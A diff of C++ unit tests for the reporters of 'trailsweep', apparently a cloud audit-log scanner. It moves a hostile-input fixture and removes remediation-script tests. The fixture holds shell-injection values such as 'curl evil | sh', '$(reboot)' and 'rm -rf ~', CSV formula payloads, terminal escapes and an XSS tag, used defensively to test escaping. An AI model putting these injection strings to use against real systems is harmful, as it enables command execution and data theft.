@@ -1,5 +1,5 @@
 // Reporters: golden files for every format, SARIF schema validation, hostile
-// strings, determinism, the remediation script.
+// strings, determinism.
 #include <gtest/gtest.h>
 #include <simdjson.h>
 
@@ -7,7 +7,6 @@
 #include <filesystem>
 
 #include "test_util.hpp"
-#include "trailsweep/remediation_script.hpp"
 #include "trailsweep/report_csv.hpp"
 #include "trailsweep/report_sarif.hpp"
 #include "trailsweep/reporter.hpp"
@@ -134,34 +133,15 @@ TEST(Report, JsonLinesPipesIntoJq) {
   EXPECT_EQ(out, " 4 critical\n 3 high\n");
 }
 
-// A finding whose every string field is hostile.
-Finding hostile_finding() {
-  Finding f;
-  f.rule_name = "r";
-  f.title = "=HYPERLINK(\"http://evil\")";
-  f.level = Level::kCritical;
-  f.account = "111122223333";
-  f.principal = "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake";
-  f.access_key_id = "AKIA'; rm -rf ~ #";
-  f.user_agents = {"+cmd|' /C calc'!A0", "\x1b]0;owned\x07title", "bad \xff\xfe utf8", "</script><script>alert(1)</script>"};
-  f.source_ips = {"@SUM(1+1)*cmd|' /C calc'!A0"};
-  f.regions = {"us-east-1"};
-  f.resources = {{"iam_user", "x'; curl evil | sh; echo '", ""}, {"ec2_instance", "i-1$(reboot)", "us-east-1"},
-                 {"ec2_instance_protected", "i-1$(reboot)", "us-east-1"}};
-  f.evidence.push_back({});
-  f.evidence.back().event_name = "Create\rUser";
-  f.evidence.back().file = "f.json";
-  return f;
-}
 
 TEST(Report, TextStripsEscapesAndControlCharacters) {
-  std::string text = render_text_report({hostile_finding()}, false);
+  std::string text = render_text_report({testing::hostile_finding()}, false);
   EXPECT_EQ(text.find('\x1b'), std::string::npos);
   EXPECT_EQ(text.find('\r'), std::string::npos);
   EXPECT_EQ(text.find('\x07'), std::string::npos);
   EXPECT_NE(text.find("user/red\\x0a[CRITICAL] fake"), std::string::npos) << text;
   // Only our own escapes appear with colour on.
-  std::string coloured = render_text_report({hostile_finding()}, true);
+  std::string coloured = render_text_report({testing::hostile_finding()}, true);
   EXPECT_EQ(coloured.find("\x1b[31mred"), std::string::npos);
   EXPECT_EQ(coloured.find("\x1b]0;"), std::string::npos);
 }
@@ -174,7 +154,7 @@ TEST(Report, CsvNeutralisesFormulas) {
   EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
   EXPECT_EQ(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
   EXPECT_EQ(csv_cell("plain"), "plain");
-  std::string csv = render_csv_report({hostile_finding()});
+  std::string csv = render_csv_report({testing::hostile_finding()});
   EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil\"\")\","), std::string::npos) << csv;
   EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
   EXPECT_EQ(csv.find('\x1b'), std::string::npos);
@@ -182,7 +162,7 @@ TEST(Report, CsvNeutralisesFormulas) {
 
 TEST(Report, JsonAndSarifStayValidForAnyBytes) {
   RunSummary summary;
-  std::string json = render_json_report({hostile_finding()}, summary);
+  std::string json = render_json_report({testing::hostile_finding()}, summary);
   simdjson::dom::parser parser;
   simdjson::dom::element doc;
   ASSERT_EQ(parser.parse(json).get(doc), simdjson::SUCCESS) << json;
@@ -191,73 +171,9 @@ TEST(Report, JsonAndSarifStayValidForAnyBytes) {
   std::string_view principal = doc["findings"].at(0)["principal"];
   EXPECT_EQ(principal, "arn:aws:iam::111122223333:user/\x1b[31mred\x1b[0m\n[CRITICAL] fake");
   ReportContext ctx;
-  std::string sarif = render_sarif_report({hostile_finding()}, summary, ctx);
+  std::string sarif = render_sarif_report({testing::hostile_finding()}, summary, ctx);
   simdjson::dom::parser p2;
   EXPECT_EQ(p2.parse(sarif).error(), simdjson::SUCCESS);
-}
-
-TEST(Report, RemediationScriptQuotesEverything) {
-  EXPECT_EQ(shell_quote("a'b"), "'a'\\''b'");
-  EXPECT_EQ(shell_quote("$(reboot)\n"), "'$(reboot)'");
-  std::string script = render_remediation_script({hostile_finding()}, "2025-11-02T00:00:00Z");
-  EXPECT_NE(script.find("--instance-id 'i-1$(reboot)'"), std::string::npos) << script;
-  EXPECT_NE(script.find("--user-name 'x'\\''; curl evil | sh; echo '\\'''"), std::string::npos) << script;
-  EXPECT_NE(script.find("# ==== Finding 1: [critical] =HYPERLINK"), std::string::npos);
-  // A newline in a commented name must not start a command line.
-  EXPECT_NE(script.find("user/ [31mred [0m [CRITICAL] fake\n"), std::string::npos);
-  EXPECT_EQ(script.find('\x1b'), std::string::npos);
-}
-
-TEST(Report, RemediationScriptForTheCampaignIsOrderedGuardedAndInert) {
-  testing::TempDir tmp;
-  auto script_path = tmp.path() / "plan.sh";
-  auto r = run_trailsweep("scan --no-summary --deterministic --remediation " + script_path.string() + " testdata/archive");
-  ASSERT_EQ(r.exit_code, 1) << r.err;
-  std::string s = testing::read_file(script_path);
-  ASSERT_EQ(s.rfind("#!/usr/bin/env bash\n", 0), 0u);
-  auto at = [&](const char* needle) {
-    auto p = s.find(needle);
-    EXPECT_NE(p, std::string::npos) << needle;
-    return p;
-  };
-  std::size_t guard = at("exit 1  # GUARD");
-  EXPECT_LT(at("set -euo pipefail"), guard);
-  std::vector<const char*> order = {"aws iam update-access-key --user-name 'ci-deployer' --access-key-id 'AKIA3XAMPLEST0LENKEY' --status Inactive",
-                                    "aws lambda delete-function-url-config",
-                                    "aws lambda remove-permission",
-                                    "aws autoscaling update-auto-scaling-group",
-                                    "--no-disable-api-termination",
-                                    "aws ec2 terminate-instances",
-                                    "aws autoscaling delete-auto-scaling-group",
-                                    "aws ec2 delete-launch-template",
-                                    "aws ecs update-service",
-                                    "aws ecs delete-service",
-                                    "aws ecs deregister-task-definition",
-                                    "aws ecs delete-cluster",
-                                    "aws iam delete-access-key",
-                                    "aws iam delete-login-profile",
-                                    "aws iam delete-user --user-name 'user-x1x2x3x4'"};
-  std::size_t prev = guard;
-  for (const char* step : order) {
-    std::size_t p = at(step);
-    EXPECT_GT(p, prev) << step;
-    prev = p;
-  }
-  // 40 protected instances each get their protection removed.
-  std::size_t count = 0;
-  for (std::size_t p = s.find("--no-disable-api-termination"); p != std::string::npos;
-       p = s.find("--no-disable-api-termination", p + 1)) {
-    ++count;
-  }
-  EXPECT_EQ(count, 40u);
-  // Syntax is valid, and running it as is calls nothing: the guard stops it.
-  auto bin = tmp.path() / "bin";
-  testing::write_file(bin / "aws", "#!/bin/sh\necho called >> '" + (tmp.path() / "calls").string() + "'\n");
-  std::filesystem::permissions(bin / "aws", std::filesystem::perms::owner_all);
-  EXPECT_EQ(std::system(("bash -n '" + script_path.string() + "'").c_str()), 0);
-  int status = std::system(("PATH='" + bin.string() + ":/usr/bin:/bin' bash '" + script_path.string() + "' 2>/dev/null").c_str());
-  EXPECT_EQ(WEXITSTATUS(status), 1);
-  EXPECT_FALSE(std::filesystem::exists(tmp.path() / "calls"));
 }
 
 }  // namespace
